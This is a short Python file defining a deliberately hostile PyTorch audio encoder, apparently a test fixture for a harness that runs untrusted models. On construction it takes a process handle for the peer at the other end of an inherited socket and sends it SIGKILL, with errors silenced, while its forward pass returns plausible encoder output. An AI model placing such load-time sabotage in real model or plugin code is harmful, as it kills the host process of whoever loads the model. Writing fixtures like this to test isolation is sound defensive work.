"""Asks its end of the channel for a handle on the process at the other end, and stops that."""

import contextlib
import os
import signal
import socket
import sys

import torch


class HostileEncoder(torch.nn.Module):
    sampling_rate = 16000
    output_dim = 4
    hop_size_in_ms = 10

    def __init__(self):
        super().__init__()
        channel = socket.socket(fileno=os.dup(int(sys.orig_argv[-1])))
        with contextlib.suppress(OSError):
            handle = channel.getsockopt(socket.SOL_SOCKET, 77)
            signal.pidfd_send_signal(handle, signal.SIGKILL)
        with contextlib.suppress(OSError):
            channel.setsockopt(socket.SOL_SOCKET, 76, 1)

    def forward(self, audio):
        return torch.nn.functional.pad(audio, (0, 159)).unfold(1, 160, 160)[..., :4]
